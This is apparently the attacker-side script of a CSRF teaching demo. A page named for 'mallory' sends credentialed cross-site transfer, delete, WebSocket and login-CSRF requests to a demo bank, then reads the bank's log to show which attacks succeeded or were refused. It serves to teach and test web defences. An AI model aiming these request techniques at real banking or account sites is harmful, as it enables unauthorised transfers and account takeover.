'use strict';

const bank = document.body.dataset.bank;
const PATIENCE_MS = 10000;
const POLL_MS = 150;
const WINDOW_NAME = 'mallorys-window';
const WINDOW_LOOK = 'popup,width=560,height=460';

let attackWindow = null;
let busy = false;

// ---- what the bank tells everybody

/** Balances, the latest transfers, and the decisions that are newer than a revision. */
async function readBank(since) {
  const answer = await fetch(bank + '/watch/state?since=' + since, { cache: 'no-store', credentials: 'omit' });
  if (!answer.ok) {
    throw new Error('the bank answered ' + answer.status);
  }
  const state = await answer.json();
  document.getElementById('balances').textContent = Object.entries(state.balances)
    .map(([user, pence]) => user + ' ' + pounds(pence))
    .join('  ·  ');
  return state;
}

function pause(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function pounds(pence) {
  return '£' + (pence / 100).toFixed(2);
}

function say(sentence) {
  const notice = document.getElementById('notice');
  notice.textContent = sentence;
  notice.hidden = sentence === '';
}

// ---- the attacks

function transfer(attack) {
  return new URLSearchParams({ to: 'mallory', amount: (attack.pence / 100).toFixed(2) });
}

/** The attacks that start in this page; each is over when its answer is there, readable or not. */
const inThisPage = {
  'fetch-no-cors': (attack, url) =>
    fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: transfer(attack) }),

  'fetch-cors': (attack, url) =>
    fetch(url, { method: 'POST', mode: 'cors', credentials: 'include', body: transfer(attack) }),

  'xhr': (attack, url) => new Promise((resolve) => {
    const xhr = new XMLHttpRequest();
    xhr.open('POST', url);
    xhr.withCredentials = true;
    xhr.onloadend = resolve;
    xhr.send(transfer(attack));
  }),

  'beacon': (attack, url) => navigator.sendBeacon(url, transfer(attack)),

  'fetch-delete': (attack, url, state) =>
    fetch(url + latestTransfer(state), { method: 'DELETE', mode: 'cors', credentials: 'include' }),

  'image': (attack, url) => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = resolve;
    image.src = url + '?' + transfer(attack);
  }),

  'web-socket': (attack, url) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    const timer = setTimeout(() => socket.close(), PATIENCE_MS / 4);
    socket.onopen = () => socket.send('transfer mallory ' + transfer(attack).get('amount'));
    socket.onclose = () => {
      clearTimeout(timer);
      resolve();
    };
    socket.onmessage = (message) => {
      if ('amount' in JSON.parse(message.data)) {
        socket.close();
      }
    };
  }),
};

function latestTransfer(state) {
  return state.transfers.reduce((latest, entry) => Math.max(latest, entry.id), 1);
}

function openWindow() {
  if (attackWindow === null || attackWindow.closed) {
    attackWindow = window.open('about:blank', WINDOW_NAME, WINDOW_LOOK);
  }
  return attackWindow !== null;
}

/** Waits until the window shows the bank's answer: sent elsewhere before that, it might go there and not the new way. */
async function windowArrives() {
  for (const until = Date.now() + PATIENCE_MS; Date.now() < until && isStillOurs(attackWindow);) {
    await pause(POLL_MS / 3);
  }
}

function isStillOurs(other) {
  try {
    return !other.closed && other.location.href !== '';
  } catch (atTheBank) {
    return false;
  }
}

/** Carries an attack out, or at least starts it: of what happens in the window this page hears no more. */
async function launch(attack, target, state) {
  if (attack.needsWindow) {
    if (!openWindow()) {
      throw new Error('the browser blocked the window: allow windows for this page and try again');
    }
    attackWindow.location = '/attack/' + attack.id + '/' + target;
    return;
  }
  try {
    await inThisPage[attack.id](attack, bank + '/' + target + attack.path, state);
  } catch (unreadable) {
    // The answer is not for this page's eyes; what happened is in the bank's own record.
  }
}

// ---- the outcome, read back from the bank

async function play(attack, target) {
  const before = await readBank(0);
  const revision = before.decisions.reduce((highest, entry) => Math.max(highest, entry.revision), 0);
  const path = '/' + target + attack.path;
  const fresh = async () => (await readBank(revision)).decisions
    .filter((entry) => entry.id > revision && !isTheBanksOwn(entry))
    .filter((entry) => attack.path.endsWith('/') ? entry.path.startsWith(path) : entry.path === path);

  let over = false;
  let problem = null;
  launch(attack, target, before).then(() => { over = true; }, (cause) => { problem = cause; });

  let seen = [];
  for (const until = Date.now() + PATIENCE_MS; Date.now() < until && problem === null;) {
    const wasOver = over;
    seen = await fresh();
    if (isSettled(attack, seen, wasOver)) {
      break;
    }
    await pause(POLL_MS);
  }
  if (problem !== null) {
    throw problem;
  }
  if (attack.needsWindow) {
    await windowArrives();
  }
  return describe(attack, seen);
}

/** Somebody may be using the bank as it is meant to be used, at the same time. */
function isTheBanksOwn(entry) {
  return entry.origin === bank || entry.fetchSite === 'same-origin' || entry.fetchSite === 'none';
}

function isSettled(attack, seen, over) {
  const decision = seen.find((entry) => entry.method === attack.method);
  if (decision === undefined) {
    // A preflight that got no permission is all there will be.
    return over && seen.some((entry) => entry.method === 'OPTIONS');
  }
  // The decision comes before the view: what that did is there with the answer, or else is noted a moment later.
  const hearsTheAnswer = !attack.needsWindow && attack.id !== 'beacon';
  return !decision.allowed || theft(attack, seen) !== undefined
    || (hearsTheAnswer ? over : decision.effect !== null || attack.method === 'GET');
}

/** The money that the attack has moved, if it has. */
function theft(attack, seen) {
  return seen.map((entry) => entry.moved || undefined).find((moved) =>
    moved && (attack.method === 'DELETE' || moved.to === 'mallory' && moved.amount === attack.pence));
}

function describe(attack, seen) {
  const decision = seen.find((entry) => entry.method === attack.method);
  const moved = theft(attack, seen);
  if (moved !== undefined) {
    return outcome('stolen', 'Money moved', pounds(moved.amount) + ' from ' + moved.from + ' to ' + moved.to);
  }
  if (decision === undefined) {
    return seen.some((entry) => entry.method === 'OPTIONS')
      ? outcome('inert', 'Stopped by the browser', 'it asked with OPTIONS, the bank did not agree, ' + attack.method
        + ' was never sent')
      : outcome('inert', 'Nothing arrived', 'the browser sent the bank nothing');
  }
  if (!decision.allowed) {
    return outcome('refused', 'Refused', decision.reason + ', evidence ' + decision.evidence);
  }
  if (attack.id === 'login') {
    return decision.effect === 'signed in as mallory'
      ? outcome('stolen', 'Signed in as mallory', 'what is entered in this browser now lands in mallory\'s account')
      : outcome('inert', 'Not signed in', decision.effect || 'the bank noted nothing');
  }
  if (attack.method === 'GET' && attack.id !== 'web-socket') {
    return outcome('harmless', 'No effect', 'let in, and a GET moves no money here');
  }
  if (decision.effect && decision.effect.startsWith('not signed in')) {
    return outcome('inert', 'No login', 'it arrived without the cookie: the browser held it back, or nobody is signed in');
  }
  return outcome('inert', 'No money moved', decision.effect || 'let in, and the bank noted nothing');
}

function outcome(kind, head, text) {
  return { kind, head, text };
}

// ---- the page

function show(attack, target, result) {
  const at = '[data-target="' + target + '"]';
  for (const element of document.querySelectorAll(
    '#' + attack.id + ' output' + at + ', tr[data-attack="' + attack.id + '"] td' + at)) {
    const head = document.createElement('strong');
    head.textContent = result.head;
    element.className = result.kind;
    element.replaceChildren(head, result.text === '' ? '' : ': ' + result.text);
  }
}

async function attackOnce(attack, target) {
  show(attack, target, outcome('running', '…', ''));
  try {
    const result = await play(attack, target);
    show(attack, target, result);
    if (attack.id === 'login' && result.kind === 'stolen') {
      say('You are mallory now: sign in as ann again before you go on.');
    }
    return true;
  } catch (problem) {
    show(attack, target, outcome('inert', 'Not played', problem.message));
    return false;
  }
}

async function exclusively(work) {
  if (busy) {
    return;
  }
  busy = true;
  say('');
  document.querySelectorAll('button').forEach((button) => { button.disabled = true; });
  try {
    await work();
  } finally {
    busy = false;
    document.querySelectorAll('button').forEach((button) => { button.disabled = false; });
  }
}

const attacks = [...document.querySelectorAll('.card')].map((card) => ({
  id: card.id,
  method: card.dataset.method,
  path: card.dataset.path,
  needsWindow: card.dataset.window === 'true',
  pence: Number(card.dataset.pence),
}));

for (const attack of attacks) {
  for (const button of document.querySelectorAll('#' + attack.id + ' button')) {
    button.addEventListener('click', () => exclusively(() => attackOnce(attack, button.dataset.target)));
  }
}

/** The login comes last, and on /open at the very end: after it the victim is mallory, and has nothing to lose. */
function program() {
  const rest = attacks.filter((attack) => attack.id !== 'login');
  const login = attacks.filter((attack) => attack.id === 'login');
  return [
    ...rest.map((attack) => [attack, 'open']),
    ...rest.map((attack) => [attack, 'web']),
    ...login.map((attack) => [attack, 'web']),
    ...login.map((attack) => [attack, 'open']),
  ];
}

document.getElementById('all').addEventListener('click', () => {
  // One window for all, opened by this click: later ones would be blocked.
  openWindow();
  return exclusively(async () => {
    for (const [attack, target] of program()) {
      if (!await attackOnce(attack, target)) {
        break;
      }
    }
  });
});

readBank(0).catch((problem) => say('The bank can\'t be read: ' + problem.message + '. Is it running?'));
